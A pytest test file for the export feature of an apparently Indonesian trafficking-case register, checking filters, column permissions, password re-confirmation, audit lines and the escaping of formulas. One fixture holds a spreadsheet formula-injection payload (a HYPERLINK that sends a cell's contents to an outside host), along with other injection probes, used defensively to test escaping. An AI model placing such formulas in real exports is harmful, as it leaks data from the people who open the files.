"""Export: the scope and filter of the list, explicit columns, no formula, real types; with identity behind reason, password and trail."""

import csv
import datetime
import io
import types

import openpyxl
import pytest
from django.apps import apps

from anggota.audit import readings_of
from anggota.gerbang import YAKIN
from anggota.models import JejakAudit
from gugus_tugas.csv_file import csv_stream
from kasus import ekspor
from kasus.models import Korban
from kasus.tests.factories import make_kasus, make_layanan, make_permintaan, victim
from wilayah.models import Wilayah

URL, IDENTITAS = "/kasus/ekspor/", "/kasus/ekspor/identitas/"
EVIL = '=HYPERLINK("http://x/?"&A1,"klik")'
SECRET = {
    "nama": EVIL,
    "nik": "9999000011112222",
    "telepon": "+62811",
    "alamat": "＝1+1",
    "tanggal_lahir": datetime.date(2001, 5, 17),
}
REASON = "daftar untuk jaksa penuntut umum"
PLAIN = [
    "nomor", "kode_korban", "tanggal_lapor", "tahun_lapor", "status", "sumber_laporan", "penanggung_jawab", "jenis_kelamin",
    "kelompok_usia", "status_identifikasi", "layanan_diminta", "layanan_diberikan", "layanan_lewat",
]  # fmt: skip


@pytest.fixture
def register(sekretariat, cast):
    first = make_kasus(
        by=sekretariat,
        uraian="ZZURAIAN",
        nomor_simfoni="-5",
        daftar_korban=[
            victim(identitas=SECRET, asal=Wilayah.objects.get(kode="11.74")),
            victim(jenis_kelamin="L", identitas={"nama": "ZZDUA"}),
        ],
        daftar_terlapor=[{"jenis_kelamin": "L", "identitas": {"nama": "ZZTIGA"}}],
    )
    second = make_kasus(by=sekretariat, sumber_laporan="media", tanggal_lapor=datetime.date(2026, 4, 1))
    make_layanan(first.daftar_korban.get(urutan=1), by=sekretariat, penyedia=cast["dinsos"].instansi)
    return first, second


def table(response) -> list[list[str]]:
    body = b"".join(response.streaming_content).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(body), delimiter=";"))


def sheet(response):
    return openpyxl.load_workbook(io.BytesIO(response.content)).active


def sure(browser):
    """As if the password had been typed just now."""
    session = browser.session
    session[YAKIN] = datetime.datetime.now(datetime.UTC).timestamp()
    session.save()
    return browser


def test_golden_csv(client_of, sekretariat, register):
    response = client_of(sekretariat).post(URL, {"bentuk": "csv", "kolom": [*PLAIN, "tujuan", "nomor_simfoni"]})
    assert isinstance(response.streaming_content, (types.GeneratorType, map))
    assert response.headers["Content-Disposition"].startswith('attachment; filename="kasus-2')
    assert response.headers["Cache-Control"] == "no-store, private"
    head, *rows = table(response)
    assert head[:4] == ["Nomor kasus", "Kode korban", "Tanggal lapor", "Tahun lapor"]
    assert rows[0][:3] == ["TPPO-ACEH/2026/0002", "TPPO-ACEH/2026/0002-K1", "2026-04-01"]
    assert rows[1] == [
        "TPPO-ACEH/2026/0001", "TPPO-ACEH/2026/0001-K1", "2026-03-02", "2026", "Penanganan", "Datang langsung",
        "Nama Sekretariat", "Perempuan",
        "Dewasa (18 tahun ke atas)", "Terindikasi korban", "1", "0", "1", "Kerja paksa", "'-5",
    ]  # fmt: skip
    assert [row[1][-2:] for row in rows] == ["K1", "K1", "K2"]


def test_golden_xlsx_has_real_types_and_no_formula(client_of, sekretariat, register):
    page = sheet(client_of(sekretariat).post(URL, {"bentuk": "xlsx", "kolom": [*PLAIN, "nomor_simfoni"]}))
    cells = dict(zip([*PLAIN, "nomor_simfoni"], page[3], strict=True))
    assert cells["nomor"].value == "TPPO-ACEH/2026/0001"
    assert cells["tanggal_lapor"].value.date() == datetime.date(2026, 3, 2)
    assert cells["tanggal_lapor"].number_format == "DD/MM/YYYY"
    assert (cells["tahun_lapor"].value, cells["layanan_lewat"].value) == (2026, 1)
    assert (cells["nomor_simfoni"].value, cells["nomor_simfoni"].data_type) == ("-5", "s")
    assert page.max_row == 4


def test_columns_of_the_usual_kind_are_plain_in_their_models():
    """No column of the kind without identity is called identifying by a model, and the chronicle is in neither."""
    identifying = {
        (name, model.__name__)
        for model in apps.get_app_config("kasus").get_models()
        for name in getattr(getattr(model, "Privacy", None), "identifying", ())
    }
    clashing = {pair for pair in identifying if pair[0] in ekspor.BIASA}
    assert clashing == {("nomor", "Pencarian"), ("nomor", "Putusan")}  # other papers' numbers, not the register's
    assert "uraian" not in {row.nama for row in ekspor.DAFTAR}


def test_nothing_identifying_comes_out_by_asking_for_its_column(client_of, sekretariat, register):
    for kolom in (["nama"], ["nomor", "nik"], ["uraian"], ["asal"]):
        response = client_of(sekretariat).post(URL, {"bentuk": "csv", "kolom": kolom})
        assert response.status_code == 200
        assert response.headers["Content-Type"].startswith("text/html")


@pytest.mark.parametrize(
    ("query", "codes"),
    [
        ("", ["0002-K1", "0001-K1", "0001-K2"]),
        ("?sumber=media", ["0002-K1"]),
        ("?kelamin=L", ["0001-K1", "0001-K2"]),  # the list is of cases: a case that fits comes whole
        ("?urut=terlama", ["0001-K1", "0001-K2", "0002-K1"]),
        ("?q=2026/1", ["0001-K1", "0001-K2"]),
    ],
)
def test_the_filter_and_order_of_the_list_hold(client_of, sekretariat, register, query, codes):
    rows = table(client_of(sekretariat).post(URL + query, {"bentuk": "csv", "kolom": ["kode_korban"]}))
    assert [row[0][-7:] for row in rows[1:]] == codes


def test_only_the_chosen_cases_within_the_scope(client_of, cast, register):
    address = f"{URL}?k={register[0].slug}&k={register[1].slug}"
    rows = table(client_of(cast["dinsos"]).post(address, {"bentuk": "csv", "kolom": ["kode_korban"]}))
    assert rows[1:] == [["TPPO-ACEH/2026/0001-K1"]]


def test_a_member_takes_the_own_scope_and_the_own_columns(client_of, cast, register):
    browser = client_of(cast["dinsos"])
    names = [value for value, _ in browser.get(URL).context["form"].fields["kolom"].choices]
    assert names == PLAIN
    _, *rows = table(browser.post(URL, {"bentuk": "csv", "kolom": PLAIN}))
    assert [row[1] for row in rows] == ["TPPO-ACEH/2026/0001-K1"]
    refused = browser.post(URL, {"bentuk": "csv", "kolom": ["tujuan"]})
    assert refused.context["form"].errors
    assert "Tidak ada baris" in client_of(cast["polda"]).post(URL, {"bentuk": "csv", "kolom": PLAIN}).content.decode()


@pytest.mark.parametrize("role", ["dinsos", "pimpinan", "pengelola"])
def test_identity_never_for_members_and_others(client_of, cast, register, role):
    browser = sure(client_of(cast[role]))
    assert browser.get(IDENTITAS).status_code == 403
    assert browser.post(IDENTITAS, {"bentuk": "csv", "kolom": ["nama"], "alasan": REASON}).status_code == 403
    assert "dengan identitas" not in browser.get(URL).content.decode()


def test_identity_asks_the_password_again_and_keeps_the_filter(client_of, sekretariat, register):
    browser = client_of(sekretariat)
    for response in (browser.get(f"{IDENTITAS}?sumber=media"), browser.post(IDENTITAS, {"alasan": REASON})):
        assert response.status_code == 302
        assert response.url.startswith("/akun/yakin/")
    assert "sumber%3Dmedia" in browser.get(f"{IDENTITAS}?sumber=media").url


@pytest.mark.parametrize(
    "alasan", ["", "perlu", "untuk ZZDUA di pengadilan", "untuk jaksa, perkara ZZTIGA", "nomor 9999000011112222 dicari"]
)
def test_identity_asks_a_reason_that_names_nobody(client_of, sekretariat, register, alasan):
    response = sure(client_of(sekretariat)).post(IDENTITAS, {"bentuk": "csv", "kolom": ["nama"], "alasan": alasan})
    assert response.context["form"].errors
    assert not JejakAudit.objects.filter(peristiwa="export_identitas").exists()


def test_identity_comes_out_safe_with_a_line_for_each_victim(client_of, sekretariat, register):
    columns = ["kode_korban", "nama", "nik", "tanggal_lahir", "telepon", "alamat", "asal"]
    browser = sure(client_of(sekretariat))
    rows = table(browser.post(f"{IDENTITAS}?sumber=langsung", {"bentuk": "csv", "kolom": columns, "alasan": REASON}))
    assert rows[1] == [
        "TPPO-ACEH/2026/0001-K1", f"'{EVIL}", "9999000011112222", "2001-05-17", "'+62811", "'＝1+1", "Kota Langsa",
    ]  # fmt: skip
    page = sheet(browser.post(f"{IDENTITAS}?sumber=langsung", {"bentuk": "xlsx", "kolom": columns, "alasan": REASON}))
    assert (page["B2"].value, page["B2"].data_type, page["C2"].data_type) == (EVIL, "s", "s")
    lines = JejakAudit.objects.filter(peristiwa="export_identitas")
    assert {tuple(line.kolom) for line in lines} == {tuple(sorted(columns))}
    codes = [str(row) for row in register[0].daftar_korban.all()]
    assert sorted(line.objek_kode for line in lines) == sorted(codes * 2)  # two files
    assert {line.alasan for line in lines} == {f"{REASON} [saringan: Sumber laporan: Datang langsung]"}
    assert {line.objek_kode for line in readings_of(codes)} == set(codes)


def test_restricted_victims_are_left_out_of_identities_for_everybody(client_of, sekretariat, kepala, register):
    korban = register[0].daftar_korban.get(urutan=1)
    make_permintaan(korban, by=sekretariat, jenis="pembatasan")
    Korban.objects.filter(pk=korban.pk).update(dibatasi_pada=datetime.datetime.now(datetime.UTC), dibatasi_oleh=kepala)
    for user in (sekretariat, kepala):
        asked = {"bentuk": "csv", "kolom": ["kode_korban", "nik"], "alasan": REASON}
        rows = table(sure(client_of(user)).post(IDENTITAS, asked))
        assert [row[0][-7:] for row in rows[1:]] == ["0002-K1", "0001-K2"]
        assert "9999000011112222" not in str(rows)


def test_many_identities_at_once_are_refused(client_of, sekretariat, register, monkeypatch):
    monkeypatch.setattr("kasus.actions.ekspor.MAX_IDENTITAS", 2)
    response = sure(client_of(sekretariat)).post(IDENTITAS, {"bentuk": "csv", "kolom": ["nama"], "alasan": REASON})
    assert "paling banyak 2" in response.content.decode()


def test_a_plain_export_leaves_one_line_with_columns_count_and_filter(client_of, sekretariat, register):
    client_of(sekretariat).post(f"{URL}?sumber=media", {"bentuk": "xlsx", "kolom": ["nomor", "status"]})
    line = JejakAudit.objects.get(peristiwa="export_kasus")
    assert (line.kolom, line.objek_kode, line.alasan) == (
        ["nomor", "status"],
        "1 korban",
        "xlsx, saringan: Sumber laporan: Media atau media sosial",
    )
    assert client_of(sekretariat).get(URL).status_code == 200
    assert JejakAudit.objects.filter(peristiwa="export_kasus").count() == 1


def test_a_spreadsheet_says_its_limit_before(client_of, sekretariat, register, monkeypatch):
    assert "20.000 baris" in client_of(sekretariat).get(URL).content.decode()
    monkeypatch.setattr(ekspor, "MAX_XLSX", 2)
    response = client_of(sekretariat).post(URL, {"bentuk": "xlsx", "kolom": ["nomor"]})
    assert "paling banyak 2. Pilih CSV" in response.content.decode()
    assert not JejakAudit.objects.filter(peristiwa="export_kasus").exists()


def test_the_stream_holds_few_rows_at_a_time():
    alive = []

    def endless():
        n = 0
        while True:
            n += 1
            alive.append(n)
            yield [n, "x" * 100]

    stream = csv_stream(["a", "b"], endless(), size=10)
    pieces = [next(stream) for _ in range(5)]
    assert len(alive) == 49  # the head is the fiftieth line
    assert max(map(len, pieces)) < 2000


def test_memory_of_a_long_export_does_not_grow(sekretariat, django_assert_max_num_queries, monkeypatch):
    """Queries come by the chunk, not by the row: what is held is one chunk."""
    monkeypatch.setattr(ekspor, "CHUNK", 5)
    for _ in range(12):
        make_kasus(by=sekretariat)
    columns = ekspor.allowed(sekretariat, identitas=False)
    from kasus.models import Kasus

    with django_assert_max_num_queries(1 + 3 * 3) as queries:
        rows = ekspor.rows(Kasus.objects.visible_to(sekretariat).order_by("-tanggal_lapor"), sekretariat, columns)
        first = next(rows)
        early = len(queries)
        assert len(list(rows)) == 11
    assert first[0].startswith("TPPO-ACEH/")
    assert early == 4


def test_an_action_that_cannot_note_the_export_lets_nothing_out(client_of, sekretariat, register, monkeypatch):
    def fail(*args, **kwargs):
        raise RuntimeError("jejak penuh")

    monkeypatch.setattr("anggota.audit.record", fail)
    with pytest.raises(RuntimeError):
        client_of(sekretariat).post(URL, {"bentuk": "csv", "kolom": ["nomor"]})


def test_an_estimate_never_leaves_as_a_day(client_of, sekretariat):
    """A year alone stands as its first of January in the table; no file may say that somebody was born on it."""
    born = {"nama": "Rekaan", "tanggal_lahir": datetime.date(2001, 1, 1), "ketelitian_lahir": "tahun"}
    act = {"tahap": "Exploitation", "tanggal": datetime.date(2026, 2, 1), "ketelitian": "bulan"}
    kasus = make_kasus(by=sekretariat, daftar_korban=[victim(identitas=born)], daftar_peristiwa=[act])
    asked = {"bentuk": "csv", "kolom": ["tanggal_lahir", "tanggal_eksploitasi"], "alasan": REASON}
    rows = table(sure(client_of(sekretariat)).post(IDENTITAS, asked))
    assert rows[1] == ["2001 (perkiraan)", "Februari 2026 (perkiraan)"]
    file = sure(client_of(sekretariat)).post(
        "/kasus/htcds/identitas/", {"bentuk": "csv", "nomor": kasus.nomor, "alasan": REASON}
    )
    body = b"".join(file.streaming_content).decode("utf-8-sig") if file.streaming else file.content.decode("utf-8-sig")
    (row,) = csv.DictReader(io.StringIO(body))
    assert row["prs_Birthdate"] == "2001"
